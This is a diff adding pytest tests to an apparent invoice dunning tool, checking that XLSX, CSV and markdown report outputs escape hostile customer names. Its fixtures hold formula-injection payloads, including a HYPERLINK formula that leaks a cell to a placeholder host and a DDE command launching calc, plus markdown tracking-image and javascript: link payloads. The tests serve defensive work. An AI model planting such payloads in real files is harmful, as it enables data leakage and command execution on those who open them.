@@ -8,14 +8,20 @@ docs/security.md.
 
 from __future__ import annotations
 
+import csv as csv_module
+import io
 import json
+import re
 import time
 from collections.abc import Iterator
 
 import httpx
+import openpyxl
+import pandas as pd
 import pytest
 
 from apps.mailsink import free_port
+from dunning.exports import safe_frame, write_csv
 from dunning.inbound.effects import store_event
 from dunning.inbound.providers import whatsapp_events
 from dunning.inbound.verify import hmac_hex, stripe_header
@@ -220,3 +226,127 @@ def test_a_retry_applies_an_event_whose_effect_was_lost(receiver, ledger_url):
     assert len(ledger.frame(InboundMessage, provider_id="wamid.LOST-1")) == 1
     (row,) = ledger.frame(WebhookEvent, event_id="wamid.LOST-1").to_dict("records")
     assert row["state"] in ("stored", "emitted")
+
+
+# -- 5: formulas in the report's spreadsheets, images in its markdown ----------------------------
+
+HOSTILE = [
+    '=HYPERLINK("http://x/leak?"&A1,"x")',
+    "=cmd|' /C calc'!A0",
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "![pixel](http://x/track.png) <img src=http://x/i.png> | [a](http://x)",
+]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_report_files_hold_no_formula_and_no_markdown_image(tmp_path):
+    from typer.testing import CliRunner
+
+    from apps.cli import app
+
+    rows = [
+        {
+            "invoice_number": f"H{n}",
+            "customer_id": f"C{n}",
+            "customer_name": name,
+            "currency": "EUR",
+            "amount_total": "100",
+            "amount_due": "100",
+            "issue_date": "2026-04-01",
+            "due_date": "2026-05-01",
+            "closed_date": "",
+            "status": "open",
+        }
+        for n, name in enumerate(HOSTILE)
+    ]
+    # Not due yet: its days past due is a negative number, and must stay one.
+    rows.append(dict(rows[0], invoice_number="H-cur", customer_name="Normal S.L.",
+                     due_date="2026-07-20"))  # fmt: skip
+    csv = tmp_path / "ar.csv"
+    pd.DataFrame(rows).to_csv(csv, index=False)
+    out = tmp_path / "report"
+    args = ["report", "--invoices", str(csv), "--as-of", "2026-06-30", "--out", str(out),
+            "--locale", "en_US"]  # fmt: skip
+    result = CliRunner().invoke(app, args)
+    assert result.exit_code == 0, result.output
+
+    # XLSX: every hostile name is text (with OWASP's leading quote), no cell is a formula,
+    # and the amounts are still numbers.
+    book = openpyxl.load_workbook(out / "open-items-2026-06-30.xlsx")
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = {c.value for c in cells if isinstance(c.value, str)}
+    for name in HOSTILE[:-1]:
+        assert "'" + name.strip() in texts, name  # the importer strips the tab
+    assert not [t for t in texts if t.startswith(FORMULA_START)]
+    items = pd.read_excel(out / "open-items-2026-06-30.xlsx", sheet_name="Open items")
+    assert pd.api.types.is_numeric_dtype(items["Outstanding"])
+    assert items["Outstanding"].sum() == pytest.approx(100 * len(rows))
+    assert pd.api.types.is_numeric_dtype(items["Days past due"])
+    assert items["Days past due"].min() == -20
+
+    # CSVs: no cell starts a formula.
+    for path in sorted(out.glob("*.csv")):
+        for record in csv_module.reader(io.StringIO(path.read_text())):
+            bad = [cell for cell in record if cell.startswith(FORMULA_START)]
+            assert not bad, (path.name, bad)
+    top = pd.read_csv(out / "top-overdue.csv")
+    assert "'=cmd|' /C calc'!A0" in set(top["customer_name"])
+
+    # summary.md: the name is shown, but as text: no image, link or HTML.
+    summary = (out / "summary.md").read_text()
+    assert "![pixel](http://x/track.png)" not in summary
+    assert not re.search(r"(?<!\\)<img", summary)  # only as escaped text
+    assert "!\\[pixel\\](http://x/track.png) \\<img src=http://x/i.png\\> \\|" in summary
+    assert summary.count("![") == 3  # our own three charts
+
+
+def test_safe_frame_keeps_numbers_and_neutralises_text():
+    frame = pd.DataFrame(
+        {
+            "name": ["=1+1", "-x", "ok", None],
+            "amount": [-12.5, 3.0, -0.0, 1.0],
+            "count": [-1, 2, 3, 4],
+            "mixed": [-5, "-5", "@x", 7.5],
+        }
+    )
+    safe = safe_frame(frame)
+    assert safe["name"].tolist()[:3] == ["'=1+1", "'-x", "ok"]
+    assert safe["amount"].tolist() == [-12.5, 3.0, -0.0, 1.0]
+    assert safe["amount"].dtype == frame["amount"].dtype and safe["count"].dtype == "int64"
+    assert safe["mixed"].tolist() == [-5, "'-5", "'@x", 7.5]
+    assert frame["name"].iloc[0] == "=1+1"  # the caller's frame is left as it was
+    text = write_csv(frame)
+    assert "-12.5" in text and "'=1+1" in text
+
+
+def test_sweep_summary_artifact_escapes_markdown():
+    from dunning.summary import SweepSummary, to_markdown
+
+    summary = SweepSummary(
+        now="2026-12-09T10:00:00",
+        invoices=1,
+        quarantined_rows=1,
+        sent=0,
+        tasks=0,
+        failed=1,
+        deferred=0,
+        skipped={"<b>x</b>": 1},
+        sync={},
+        actions=[
+            {
+                "invoice": "![i](http://x/p.png)",
+                "stage": "overdue_1",
+                "status": "failed",
+                "reason": "[click](javascript:alert(1))",
+            }
+        ],
+        quarantine=["row 2: customer_name '![a](http://x/q.png)' | bad"],
+    )
+    markdown = to_markdown(summary)
+    for raw in ("![i](", "[click](", "<b>", "![a]("):
+        assert raw not in markdown
+    assert "!\\[i\\](http://x/p.png)" in markdown and "\\<b\\>x\\</b\\>" in markdown
